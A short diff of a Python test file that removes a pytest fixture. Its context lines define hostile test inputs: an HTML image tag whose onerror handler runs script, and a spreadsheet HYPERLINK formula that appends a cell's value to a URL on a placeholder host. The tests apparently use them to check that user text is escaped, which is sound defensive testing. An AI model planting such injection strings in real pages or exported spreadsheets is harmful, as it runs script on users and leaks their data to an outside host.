@@ -39,12 +39,6 @@ EVIL = '<img src=x onerror="alert(1)">'
 FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"xem")'
 
 
-@pytest.fixture
-def world(db: None) -> World:
-    """The small country."""
-    return World()
-
-
 def plant() -> None:
     """The same bad words wherever somebody's text stands."""
     said = [{"code": "x", "sentence": EVIL, "weight": 1.0, "column": "A", "heading": EVIL}]
